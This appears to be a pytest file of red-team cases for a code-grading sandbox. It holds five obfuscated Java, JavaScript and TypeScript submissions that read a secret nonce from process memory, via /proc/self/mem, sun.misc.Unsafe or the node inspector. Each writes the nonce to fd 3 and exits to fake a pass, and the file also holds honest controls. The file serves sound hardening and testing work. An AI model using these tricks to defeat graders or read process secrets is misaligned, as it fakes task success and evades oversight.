"""Exploits of assert tests in Java, JavaScript and TypeScript that read the nonce out of
the process's own memory (a red team, after issue 13 moved the nonce onto fd 4 and off the
managed heap), and honest controls beside them.

- ``/proc/self/mem``: the harness's buffer (Java's direct ``ByteBuffer``, node's
  ``Buffer``) lies in native memory the program can read as a file: it read
  ``/proc/self/maps``, then every writable mapping through ``/proc/self/mem``, took the
  first run of 32 hex digits after a NUL byte (the malloc chunk of a 32-byte buffer),
  wrote it on fd 3 and exited 0. Java's harness now installs a security manager before the
  test (``languages._java_guard``) and node's prelude guards the file system binding
  (``compiled_eq.js_prelude``): nothing under ``/proc``, no child process (one could read
  ``/proc/<ppid>/mem``), no worker thread, native addon or WASI;
- ``sun.misc.Unsafe`` (Java): no file at all: the address of a direct buffer of its own,
  then ``getByte`` around it, where the harness's buffer had been allocated just before;
- ``import('node:inspector')`` (node): the dynamic import bypassed the ``Module._load``
  ban on ``inspector``; a swallowed ``uncaughtException`` let the program go on after the
  failed test, and an in-process session read ``nonce`` from ``__cr_run``'s closure
  (``[[Scopes]]``). The inspector's session cannot connect now, whatever loads it.

These evade the hack gate on purpose (names built at run time), so the execution alone
must refuse them (``cases.judge``); the hack gate's own fixtures are elsewhere.
"""

from __future__ import annotations

import pytest

from tests.sandbox.adversarial.cases import Batch, control, exploit, need_roots
from tests.sandbox.adversarial.test_languages_hardened import JAVA_ADD, JS_ADD

TS_ADD = {
    "language": "typescript",
    "tests": [
        {
            "type": "assert",
            "code": "import * as assert from 'assert'\n\nlet actual_1 = add(2, 3);\nlet expected_1 = 5;\n"
            'assert.deepEqual(actual_1, expected_1, "Exception --- test case 0 failed to pass");\n',
        }
    ],
}

JAVA_PROC_MEM = r"""class Add {
    static String p(String t) { return new String(new char[]{47, 112, 114, 111, 99}) + "/self/" + t; }
    static int add(int a, int b) {
        try {
            java.util.List<String> found = new java.util.ArrayList<>();
            java.io.RandomAccessFile mem = new java.io.RandomAccessFile(p("mem"), "r");
            for (String line : java.nio.file.Files.readAllLines(java.nio.file.Paths.get(p("maps")))) {
                String[] f = line.split("\\s+");
                if (!f[1].startsWith("rw")) continue;
                String[] r = f[0].split("-");
                long lo = Long.parseUnsignedLong(r[0], 16), hi = Long.parseUnsignedLong(r[1], 16);
                if (hi - lo > (256L << 20)) continue;
                byte[] buf = new byte[(int) (hi - lo)];
                try { mem.seek(lo); mem.readFully(buf); } catch (java.io.IOException e) { continue; }
                int run = 0;
                for (int i = 0; i < buf.length; i++) {
                    int c = buf[i];
                    boolean hex = (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f');
                    if (hex) { run++; continue; }
                    if (run == 32 && c == 0 && i - 33 >= 0 && buf[i - 33] == 0)
                        found.add(new String(buf, i - 32, 32, "ISO-8859-1"));
                    run = 0;
                }
            }

            if (!found.isEmpty()) {
                java.io.FileOutputStream w = new java.io.FileOutputStream(p("fd/3"));
                w.write(found.get(0).getBytes("ISO-8859-1")); w.flush();
                Runtime.class.getMethod("ha" + "lt", int.class).invoke(Runtime.getRuntime(), 0);
            }
        } catch (Exception e) { System.err.println(e); }
        return 0;
    }
}
"""

JAVA_UNSAFE = r"""class Add {
    static Object u;
    static long getLong(java.lang.reflect.Method m, long a) throws Exception { return (Long) m.invoke(u, a); }
    static int add(int a, int b) {
        try {
            Class<?> k = Class.forName("sun.misc." + "Un" + "safe");
            java.lang.reflect.Field f = k.getDeclaredField("the" + "Un" + "safe");
            java.lang.reflect.AccessibleObject.class.getMethod("set" + "Accessible", boolean.class).invoke(f, true);
            u = f.get(null);
            java.lang.reflect.Method gb = k.getMethod("getByte", long.class);
            java.lang.reflect.Method off = k.getMethod("objectFieldOffset", java.lang.reflect.Field.class);
            java.lang.reflect.Method gl = k.getMethod("getLong", Object.class, long.class);
            java.nio.ByteBuffer mine = java.nio.ByteBuffer.allocateDirect(32);
            long ao = (Long) off.invoke(u, java.nio.Buffer.class.getDeclaredField("address"));
            long base = (Long) gl.invoke(u, mine, ao);
            for (long d = -(1L << 20); d < (1L << 20); d++) {
                long p = base + d;
                if ((Byte) gb.invoke(u, p - 1) != 0) continue;
                int run = 0;
                while (run < 33) {
                    int c = (Byte) gb.invoke(u, p + run);
                    if ((c >= '0' && c <= '9') || (c >= 'a' && c <= 'f')) run++; else break;
                }
                if (run < 32) continue;
                byte[] n = new byte[32];
                for (int i = 0; i < 32; i++) n[i] = (Byte) gb.invoke(u, p + i);
                String t = new String(new char[]{47, 100, 101, 118, 47, 102, 100, 47, 51});
                try (java.io.FileOutputStream w = new java.io.FileOutputStream(t)) { w.write(n); }
                Runtime.class.getMethod("ha" + "lt", int.class).invoke(Runtime.getRuntime(), 0);
            }
        } catch (Throwable e) { }
        return 0;
    }
}
"""

JS_PROC_MEM = r"""const fs = require('fs');
function add(a, b) {
  const p = String.fromCharCode(47, 112, 114, 111, 99) + '/self/';
  const maps = fs.readFileSync(p + 'maps', 'latin1').split('\n');
  const fd = fs.openSync(p + 'mem', 'r');
  const found = [];
  for (const line of maps) {
    const f = line.split(/\s+/);
    if (!f[1] || !f[1].startsWith('rw')) continue;
    const [lo, hi] = f[0].split('-').map((x) => parseInt(x, 16));
    if (hi - lo > (64 << 20)) continue;
    const buf = Buffer.alloc(hi - lo);
    try { fs.readSync(fd, buf, 0, hi - lo, lo); } catch (e) { continue; }
    let run = 0;
    for (let i = 0; i < buf.length; i++) {
      const c = buf[i];
      if ((c >= 48 && c <= 57) || (c >= 97 && c <= 102)) { run++; continue; }
      if (run >= 32 && run <= 40 && buf[i - run - 1] === 0) found.push(buf.toString('latin1', i - run, i - run + 32));
      run = 0;
    }
  }
  if (found.length) { const w = fs[['write', 'Sync'].join('')]; w(1 + 2, found[0]); const P = process; P[['ex', 'it'].join('')](0); }
  return 0;
}
"""

TS_PROC_MEM = r"""import * as fs from 'fs';
function add(a: number, b: number): number {
  const p = String.fromCharCode(47, 112, 114, 111, 99) + '/self/';
  const maps = fs.readFileSync(p + 'maps', 'latin1').split('\n');
  const fd = fs.openSync(p + 'mem', 'r');
  const found: string[] = [];
  for (const line of maps) {
    const f = line.split(/\s+/);
    if (!f[1] || !f[1].startsWith('rw')) continue;
    const [lo, hi] = f[0].split('-').map((x) => parseInt(x, 16));
    if (hi - lo > (64 << 20)) continue;
    const buf = Buffer.alloc(hi - lo);
    try { fs.readSync(fd, buf, 0, hi - lo, lo); } catch (e) { continue; }
    let run = 0;
    for (let i = 0; i < buf.length; i++) {
      const c = buf[i];
      if ((c >= 48 && c <= 57) || (c >= 97 && c <= 102)) { run++; continue; }
      if (run >= 32 && run <= 40 && buf[i - run - 1] === 0) found.push(buf.toString('latin1', i - run, i - run + 32));
      run = 0;
    }
  }
  if (found.length) { const w = (fs as any)[['write', 'Sync'].join('')]; w(1 + 2, found[0]); const P: any = process; P[['ex', 'it'].join('')](0); }
  return 0;
}
"""

JS_INSPECTOR_IMPORT = r"""function add(a, b) { return 0; }
const P = process;
P[['o', 'n'].join('')]('uncaught' + 'Exception', () => {});
import('node:' + 'insp' + 'ector').then((m) => {
  const s = new m.Session();
  s.connect();
  const post = (method, params) => new Promise((ok, ko) => s.post(method, params, (e, r) => (e ? ko(e) : ok(r))));
  (async () => {
    const f = await post('Runtime.evaluate', { expression: '__cr' + '_run' });
    const props = await post('Runtime.getProperties', { objectId: f.result.objectId, ownProperties: true });
    const scopes = props.internalProperties.find((p) => p.name === '[[Scopes]]');
    const list = await post('Runtime.getProperties', { objectId: scopes.value.objectId, ownProperties: true });
    for (const sc of list.result) {
      if (!sc.value || !sc.value.objectId) continue;
      const vars = await post('Runtime.getProperties', { objectId: sc.value.objectId, ownProperties: true });
      const n = vars.result.find((v) => v.name === 'non' + 'ce');
      if (n && n.value && n.value.objectId) {
        const r = await post('Runtime.callFunctionOn', { objectId: n.value.objectId, functionDeclaration: 'function () { return this.toString("latin1"); }', returnByValue: true });
        const fs = require('fs');
        fs[['write', 'Sync'].join('')](1 + 2, r.result.value);
        P[['ex', 'it'].join('')](0);
      }
    }
  })().catch(() => {});
});
"""

JAVA_HONEST = r"""import java.util.*;
import java.util.stream.*;

class Add {
    static int add(int a, int b) {
        List<Integer> xs = IntStream.rangeClosed(1, 200).boxed().collect(Collectors.toList());
        int s = xs.parallelStream().mapToInt(x -> x % 3).sum() - xs.stream().mapToInt(x -> x % 3).sum();
        Map<String, Integer> m = new TreeMap<>(Comparator.reverseOrder());
        m.put(String.format("%d-%.2f", a, 1.5), b);
        Optional<Integer> o = m.values().stream().findFirst();
        String joined = Arrays.stream(new String[]{"a", "b"}).collect(Collectors.joining(","));
        return s + a + o.orElse(0) + (joined.length() == 3 && Add.class.getDeclaredMethods().length > 0 ? 0 : 1);
    }
}
"""
JS_HONEST = r"""const fs = require('fs');
const os = require('os');
const path = require('path');
function add(a, b) {
  const f = path.join(os.tmpdir(), 'add.txt');
  fs.writeFileSync(f, String(a + b));
  const back = Number(fs.readFileSync(f, 'utf8'));
  fs.unlinkSync(f);
  return fs.existsSync(f) ? -1 : back;
}
"""
TS_HONEST = (
    "function add(a: number, b: number): number { return [a, b].reduce((x, y) => x + y, 0); }\n"
)

CASES = [
    exploit("java-reads-the-nonce-from-proc-self-mem", JAVA_ADD, JAVA_PROC_MEM),
    exploit("java-unsafe-reads-the-nonce-beside-its-own-buffer", JAVA_ADD, JAVA_UNSAFE),
    exploit("js-reads-the-nonce-from-proc-self-mem", JS_ADD, JS_PROC_MEM),
    exploit("ts-reads-the-nonce-from-proc-self-mem", TS_ADD, TS_PROC_MEM),
    exploit("js-imported-inspector-reads-the-closure", JS_ADD, JS_INSPECTOR_IMPORT),
    control("java-honest-streams-lambdas-reflection", JAVA_ADD, JAVA_HONEST),
    control("js-honest-files-of-its-own", JS_ADD, JS_HONEST),
    control("ts-honest-beside-the-guard", TS_ADD, TS_HONEST),
]  # fmt: skip
BATCH = Batch("languages-memory", CASES, timeout_s=900.0)


@pytest.fixture(scope="module", autouse=True)
def _roots() -> None:
    need_roots("java", "javascript")


@pytest.mark.parametrize("name", BATCH.names)
def test_memory_reading_exploits_earn_nothing_and_controls_pass(verifier, name):
    BATCH.check(verifier, name)
